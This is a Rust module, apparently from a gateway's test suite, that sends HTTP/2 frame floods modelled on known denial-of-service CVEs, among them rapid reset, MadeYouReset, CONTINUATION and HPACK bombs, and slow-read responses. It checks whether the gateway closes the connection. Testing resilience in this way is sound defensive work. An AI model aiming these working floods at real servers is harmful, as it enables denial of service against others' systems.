//! Floods of HTTP/2 frames, and HTTP/2 clients that do not read their responses.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use super::{End, Ends, Flood, open, poured};
use crate::frames::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING, PREFACE,
    PRIORITY, RST_STREAM, SETTINGS, STREAM, Said, WINDOW_UPDATE, block, frame, get, post,
    request_fields, write_length,
};

/// The number of times that an action of one or two frames is repeated.
const MANY: u32 = 10_000;

/// The number of streams whose responses of 4 MiB have to wait. If the gateway kept each response
/// in full, its memory would grow by more than `MEMORY_MAX`.
const WAITING: u32 = 50;

const fn cut(name: &'static str, attack: fn(SocketAddr) -> Result<End, String>) -> Flood {
    Flood {
        name,
        attack,
        ends: Ends::Cut,
    }
}

const fn either(name: &'static str, attack: fn(SocketAddr) -> Result<End, String>) -> Flood {
    Flood {
        name,
        attack,
        ends: Ends::Either,
    }
}

const fn served(name: &'static str, attack: fn(SocketAddr) -> Result<End, String>) -> Flood {
    Flood {
        name,
        attack,
        ends: Ends::Served,
    }
}

pub(super) const FLOODS: &[Flood] = &[
    cut("rapid reset (CVE-2023-44487)", rapid_reset),
    cut(
        "MadeYouReset: WINDOW_UPDATE of zero (CVE-2025-8671)",
        windows_of_zero,
    ),
    cut(
        "MadeYouReset: windows that overflow (CVE-2025-8671)",
        windows_that_overflow,
    ),
    cut(
        "MadeYouReset: PRIORITY of four bytes (CVE-2025-8671)",
        short_priorities,
    ),
    cut(
        "MadeYouReset: DATA after the end (CVE-2025-8671)",
        data_after_the_end,
    ),
    cut(
        "MadeYouReset: HEADERS after the end (CVE-2025-8671)",
        heads_after_the_end,
    ),
    cut("bodies longer than stated", long_bodies),
    cut("malformed heads", malformed_heads),
    cut("streams beyond the limit", many_streams),
    cut("endless CONTINUATION (CVE-2024-27316)", continuation),
    cut("empty CONTINUATION", empty_continuation),
    cut("PING (CVE-2019-9512)", ping),
    cut("acknowledged PING", pong),
    cut("SETTINGS (CVE-2019-9515)", settings),
    cut("SETTINGS that move many windows", moving_windows),
    cut("acknowledged SETTINGS", settings_ack),
    cut("PRIORITY (CVE-2019-9513)", priority),
    cut("unknown frames", unknown_frames),
    cut("GOAWAY", go_away),
    cut("empty DATA (CVE-2019-9518)", empty_data),
    cut("DATA of padding only", padding),
    cut("HPACK bomb (CVE-2016-6581)", hpack_bomb),
    cut("a head of 60,000 fields", many_fields),
    either("fields without names (CVE-2019-9516)", nameless_fields),
    either("a table that shrinks and grows", table_sizes),
    served("WINDOW_UPDATE for the connection", connection_windows),
    served("WINDOW_UPDATE for a stream", stream_windows),
    cut("half a preface", half_a_preface),
    either(
        "responses that no client reads (CVE-2019-9517)",
        responses_that_wait,
    ),
    either(
        "responses a byte at a time (CVE-2019-9511)",
        responses_in_bytes,
    ),
];

/// Sends frames after the preface. If the gateway does not close the connection, it must respond to
/// a PING.
fn sent(address: SocketAddr, frames: &[u8]) -> Result<End, String> {
    let mut stream = open(address)?;
    let last = frame(PING, 0, 0, b"the last");
    // The gateway also closes an idle connection after a while, so only the response to the PING
    // shows that it accepted the frames.
    let (said, has_ended) = poured(&mut stream, &[PREFACE, frames, &last].concat());
    let mut heard = Said::default();
    heard.take(&said);
    let has_pong = heard.pongs.iter().any(|pong| pong == b"the last");
    match (has_pong, has_ended) {
        (true, _) => Ok(End::Served),
        (false, true) => Ok(End::Cut),
        (false, false) => Err("the gateway neither closed the connection nor responded".into()),
    }
}

/// The same frames on this many successive new streams.
fn on_streams(count: u32, frames: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let all = (0..count).map(|number| frames(2 * number + 1));
    all.collect::<Vec<_>>().concat()
}

fn rapid_reset(address: SocketAddr) -> Result<End, String> {
    let cancel = |stream| frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]);
    let frames = on_streams(MANY, |stream| [get(stream, "/"), cancel(stream)].concat());
    sent(address, &frames)
}

/// Sends requests whose bodies are missing, each followed by a frame that makes the gateway reset
/// the stream.
fn made_to_reset(address: SocketAddr, wrong: impl Fn(u32) -> Vec<u8>) -> Result<End, String> {
    let frames = on_streams(MANY, |stream| {
        [post(stream, "/mock"), wrong(stream)].concat()
    });
    sent(address, &frames)
}

fn windows_of_zero(address: SocketAddr) -> Result<End, String> {
    made_to_reset(address, |stream| frame(WINDOW_UPDATE, 0, stream, &[0; 4]))
}

fn windows_that_overflow(address: SocketAddr) -> Result<End, String> {
    let most = [0x7f, 0xff, 0xff, 0xff];
    made_to_reset(address, |stream| frame(WINDOW_UPDATE, 0, stream, &most))
}

fn short_priorities(address: SocketAddr) -> Result<End, String> {
    made_to_reset(address, |stream| frame(PRIORITY, 0, stream, &[0; 4]))
}

fn data_after_the_end(address: SocketAddr) -> Result<End, String> {
    let more = |stream| frame(DATA, END_STREAM, stream, b"x");
    let frames = on_streams(MANY, |stream| [get(stream, "/"), more(stream)].concat());
    sent(address, &frames)
}

fn heads_after_the_end(address: SocketAddr) -> Result<End, String> {
    let frames = on_streams(MANY, |stream| get(stream, "/").repeat(2));
    sent(address, &frames)
}

fn long_bodies(address: SocketAddr) -> Result<End, String> {
    let fields = [
        request_fields("POST", "/mock"),
        vec![("content-length", "1")],
    ]
    .concat();
    let block = block(&fields);
    let frames = on_streams(MANY, |stream| {
        let head = frame(HEADERS, END_HEADERS, stream, &block);
        [head, frame(DATA, END_STREAM, stream, b"xx")].concat()
    });
    sent(address, &frames)
}

fn malformed_heads(address: SocketAddr) -> Result<End, String> {
    let block = block(&[request_fields("GET", "/"), vec![("X", "upper case")]].concat());
    let flags = END_HEADERS | END_STREAM;
    sent(
        address,
        &on_streams(MANY, |stream| frame(HEADERS, flags, stream, &block)),
    )
}

fn many_streams(address: SocketAddr) -> Result<End, String> {
    sent(address, &on_streams(MANY, |stream| post(stream, "/mock")))
}

fn continuation(address: SocketAddr) -> Result<End, String> {
    let first = frame(HEADERS, END_STREAM, STREAM, &[0x82]);
    let more = frame(CONTINUATION, 0, STREAM, &[0x82; 4096]);
    sent(address, &[first, more.repeat(1000)].concat())
}

fn empty_continuation(address: SocketAddr) -> Result<End, String> {
    let first = frame(HEADERS, END_STREAM, STREAM, b"");
    let more = frame(CONTINUATION, 0, STREAM, b"");
    sent(address, &[first, more.repeat(MANY as usize)].concat())
}

fn repeated(address: SocketAddr, frame: &[u8]) -> Result<End, String> {
    sent(address, &frame.repeat(MANY as usize))
}

fn ping(address: SocketAddr) -> Result<End, String> {
    repeated(address, &frame(PING, 0, 0, &[0; 8]))
}

fn pong(address: SocketAddr) -> Result<End, String> {
    repeated(address, &frame(PING, ACK, 0, &[0; 8]))
}

fn settings(address: SocketAddr) -> Result<End, String> {
    repeated(
        address,
        &frame(SETTINGS, 0, 0, &[0_u8, 3, 0, 0, 0, 1].repeat(100)),
    )
}

fn moving_windows(address: SocketAddr) -> Result<End, String> {
    let open = on_streams(WAITING, |stream| get(stream, "/large"));
    let widths = [[0, 4, 0, 0, 0, 0], [0, 4, 0, 0, 0x40, 0]];
    let both = widths.map(|width| frame(SETTINGS, 0, 0, &width)).concat();
    sent(address, &[open, both.repeat(MANY as usize)].concat())
}

fn settings_ack(address: SocketAddr) -> Result<End, String> {
    repeated(address, &frame(SETTINGS, ACK, 0, b""))
}

fn priority(address: SocketAddr) -> Result<End, String> {
    sent(
        address,
        &on_streams(MANY, |stream| frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 1])),
    )
}

fn unknown_frames(address: SocketAddr) -> Result<End, String> {
    repeated(address, &frame(0xbb, 0xff, 0, b"what is this"))
}

fn go_away(address: SocketAddr) -> Result<End, String> {
    repeated(address, &frame(GOAWAY, 0, 0, &[0; 8]))
}

fn on_one_stream(address: SocketAddr, frame: &[u8], count: usize) -> Result<End, String> {
    sent(
        address,
        &[post(STREAM, "/mock"), frame.repeat(count)].concat(),
    )
}

fn empty_data(address: SocketAddr) -> Result<End, String> {
    on_one_stream(address, &frame(DATA, 0, STREAM, b""), MANY as usize)
}

fn padding(address: SocketAddr) -> Result<End, String> {
    let padding = [&[255_u8][..], &[0; 255]].concat();
    on_one_stream(
        address,
        &frame(DATA, PADDED, STREAM, &padding),
        MANY as usize,
    )
}

/// Splits a header block of any length into as few frames as possible.
fn in_frames(block: &[u8]) -> Vec<u8> {
    let pieces: Vec<&[u8]> = block.chunks(16_384).collect();
    let last = pieces.len() - 1;
    let frames = pieces.iter().enumerate().map(|(at, piece)| {
        let kind = if at == 0 { HEADERS } else { CONTINUATION };
        let ends = if at == last { END_HEADERS } else { 0 };
        let flags = if at == 0 { ends | END_STREAM } else { ends };
        frame(kind, flags, STREAM, piece)
    });
    frames.collect::<Vec<_>>().concat()
}

/// Sends one large entry for the dynamic table, and many one-byte references to it.
fn hpack_bomb(address: SocketAddr) -> Result<End, String> {
    let mut block = block(&request_fields("GET", "/"));
    block.extend_from_slice(&[0x40, 1, b'x']);
    write_length(&mut block, 4000);
    block.extend(vec![b'y'; 4000]);
    block.extend(vec![0xbe_u8; 60_000]);
    sent(address, &in_frames(&block))
}

fn many_fields(address: SocketAddr) -> Result<End, String> {
    let good = block(&request_fields("GET", "/"));
    // An entry in the static table: accept-encoding.
    sent(address, &in_frames(&[good, vec![0x90; 60_000]].concat()))
}

fn nameless_fields(address: SocketAddr) -> Result<End, String> {
    let good = block(&request_fields("GET", "/"));
    sent(address, &in_frames(&[good, vec![0; 60_000]].concat()))
}

fn table_sizes(address: SocketAddr) -> Result<End, String> {
    let good = block(&request_fields("GET", "/"));
    let moves = [0x20_u8, 0x3f, 0xe1, 0x1f].repeat(15_000);
    sent(address, &in_frames(&[moves, good].concat()))
}

fn connection_windows(address: SocketAddr) -> Result<End, String> {
    repeated(address, &frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]))
}

fn stream_windows(address: SocketAddr) -> Result<End, String> {
    let update = frame(WINDOW_UPDATE, 0, STREAM, &[0, 0, 0, 1]);
    on_one_stream(address, &update, MANY as usize)
}

fn half_a_preface(address: SocketAddr) -> Result<End, String> {
    let mut stream = open(address)?;
    let (_, has_ended) = poured(&mut stream, &PREFACE[..16]);
    if has_ended {
        Ok(End::Cut)
    } else {
        Err("the gateway waits for the rest".into())
    }
}

/// Sends settings that allow this many bytes on each stream, and then many requests for a long
/// response.
fn asking_with_window(address: SocketAddr, bytes: u8) -> Result<TcpStream, String> {
    let mut stream = open(address)?;
    let window = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, bytes]);
    let requests = on_streams(WAITING, |stream| get(stream, "/large"));
    let sent = stream.write_all(&[PREFACE, &window, &requests].concat());
    sent.map(|()| stream).map_err(|error| error.to_string())
}

fn responses_that_wait(address: SocketAddr) -> Result<End, String> {
    let mut stream = asking_with_window(address, 0)?;
    // Longer than any client timeout in the gateway's configuration.
    let long = Some(Duration::from_millis(1500));
    stream
        .set_read_timeout(long)
        .map_err(|error| error.to_string())?;
    let (_, has_ended) = poured(&mut stream, b"");
    Ok(if has_ended { End::Cut } else { End::Served })
}

fn responses_in_bytes(address: SocketAddr) -> Result<End, String> {
    let mut stream = asking_with_window(address, 1)?;
    let short = Some(Duration::from_millis(5));
    stream
        .set_read_timeout(short)
        .map_err(|error| error.to_string())?;
    let begun = Instant::now();
    let mut piece = [0; 16 * 1024];
    let mut number = 0;
    while begun.elapsed() < Duration::from_millis(1500) {
        let update = frame(WINDOW_UPDATE, 0, 2 * (number % WAITING) + 1, &[0, 0, 0, 1]);
        number += 1;
        if stream.write_all(&update).is_err() || matches!(stream.read(&mut piece), Ok(0)) {
            return Ok(End::Cut);
        }
    }
    Ok(End::Served)
}
